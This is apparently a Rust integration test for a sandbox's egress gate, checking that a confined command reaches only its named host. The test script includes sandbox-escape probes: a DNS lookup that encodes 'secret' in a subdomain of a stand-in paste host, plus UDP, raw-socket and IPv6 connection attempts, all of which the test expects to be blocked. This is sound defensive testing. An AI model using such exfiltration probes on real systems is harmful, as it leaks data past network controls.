//! Egress by name through the launcher binary: a command whose rules name a host reaches it through the
//! hub's gate (names resolved by the gate, here to a loopback server), and every other way out is closed:
//! another host, a raw address, DNS, UDP, ICMP, IPv6, a Unix socket. Real namespaces, real curl.
// Test helpers outside #[test] fns may unwrap and panic.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;
use common::*;
use portcullis_harness::{ConnectionKind, EgressScope, HostPattern};
use portcullis_sandbox::LaunchReport;
use portcullis_sandbox::egress::{EgressGate, EgressRules, Resolver};
use std::net::IpAddr;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A loopback HTTP server answering `hello <path>` to every request.
async fn server() -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let n = s.read(&mut buf).await.unwrap_or(0);
                let head = String::from_utf8_lossy(&buf[..n]).to_string();
                let path = head.split_whitespace().nth(1).unwrap_or("?").to_owned();
                let body = format!("hello {path}\n");
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = s.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}

const PY: &str = "/usr/bin/python3";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_named_host_is_reached_through_the_gate_and_every_other_way_out_is_closed() {
    let w = world();
    let port = server().await;
    let named = format!("api.test:{port}");
    let loopback = IpAddr::from([127, 0, 0, 1]);
    let resolver =
        Resolver::Map([("api.test".to_owned(), loopback), ("other.test".to_owned(), loopback)].into());
    let gate = EgressGate {
        rules: EgressRules {
            hosts: vec![HostPattern::parse(&named).unwrap()],
            by: "rule `api` (test)".into(),
            ask: None,
        },
        resolver,
    }
    .open(None)
    .unwrap();
    let mut p = profile(&w, false);
    p.egress = Some(EgressScope { hosts: vec![named.clone()], by: "rule `api` (test)".into(), ask: None });
    let py = |code: &str| format!("{PY} -c \"{code}\" 2>&1 | tail -1");
    let script = [
        format!("echo A; curl -sS http://api.test:{port}/named"),
        format!("echo B; curl -sS http://other.test:{port}/other"),
        format!("echo C; curl -sS --noproxy '*' http://127.0.0.1:{port}/raw 2>&1"),
        format!("echo D; curl -sS -x '' http://api.test:{port}/direct 2>&1"),
        "echo E; getent hosts c2VjcmV0.paste.example || echo no-lookup".to_owned(),
        "echo F; ".to_owned()
            + &py("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53))"),
        "echo G; ".to_owned()
            + &py("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)"),
        "echo H; ".to_owned()
            + &py("import socket; socket.create_connection(('2606:4700::1111', 443), timeout=2)"),
        "echo I; ".to_owned() + &py("import socket; socket.socket(socket.AF_UNIX)"),
        "echo J; ".to_owned() + &py("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
        "echo K; env | grep -i '^https_proxy=' | sort; cat /etc/resolv.conf | wc -c".to_owned(),
        "echo L; strace -o /dev/null true 2>&1 | tail -1".to_owned(),
    ]
    .join("; ");
    let (reports, out, err) =
        run_with_gate(&launcher(), &w, p, &script, Some(gate.socket().to_path_buf())).await;
    assert!(matches!(reports.first(), Some(LaunchReport::Confined { .. })), "{reports:?} {err}");
    let part = |tag: &str| {
        let from = out.find(&format!("{tag}\n")).unwrap_or_else(|| panic!("{tag} in {out}"));
        out[from + 2..]
            .split("\n")
            .take_while(|l| !(l.len() == 1 && l.as_bytes()[0].is_ascii_uppercase()))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(part("A"), "hello /named", "{out}");
    assert!(
        part("B")
            .contains(&format!("network to other.test:{port} refused: rule `api` (test) allows {named}")),
        "{out}"
    );
    assert!(part("C").contains("Couldn't connect") || part("C").contains("Failed to connect"), "{out}");
    assert!(part("D").contains("Could not resolve host"), "{out}");
    assert_eq!(part("E"), "no-lookup", "{out}");
    assert!(part("F").contains("Network is unreachable"), "{out}");
    assert!(part("G").contains("Permission denied") || part("G").contains("not permitted"), "{out}");
    assert!(part("H").contains("Permission denied"), "Landlock: TCP only to the proxy port {out}");
    assert!(part("I").contains("Operation not permitted"), "{out}");
    assert!(part("J").contains("not permitted"), "{out}");
    assert_eq!(
        part("K").trim_end(),
        "HTTPS_PROXY=http://127.0.0.1:3128\nhttps_proxy=http://127.0.0.1:3128\n0",
        "{out}"
    );

    let record = gate.close().await;
    let c = &record.connections;
    let tcp: Vec<_> = c.iter().filter(|c| c.kind == ConnectionKind::Tcp).collect();
    assert!(tcp.iter().any(|c| c.host == "api.test" && c.allowed && c.bytes_in > 0), "{c:?}");
    assert!(tcp.iter().any(|c| c.host == "other.test" && !c.allowed), "{c:?}");
    assert_eq!(tcp.len(), 2, "the raw address and the direct connection never reached the gate: {c:?}");
    let dns: Vec<&str> =
        c.iter().filter(|c| c.kind == ConnectionKind::Dns).map(|c| c.host.as_str()).collect();
    assert!(dns.contains(&"api.test") && dns.contains(&"c2vjcmv0.paste.example"), "{dns:?}");
    assert!(c.iter().filter(|c| c.kind == ConnectionKind::Dns).all(|c| !c.allowed));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_that_name_hosts_without_a_gate_leave_no_network_at_all() {
    let w = world();
    let mut p = profile(&w, false);
    p.egress =
        Some(EgressScope { hosts: vec!["api.test".into()], by: "rule `api` (test)".into(), ask: None });
    let (reports, out, _) =
        run(&launcher(), &w, p, "cat /proc/net/dev | grep -c ': *[1-9]'; env | grep -ci proxy").await;
    assert!(matches!(reports.first(), Some(LaunchReport::Confined { .. })), "{reports:?}");
    assert_eq!(out.trim(), "0\n0", "loopback down, no proxy variables");
}
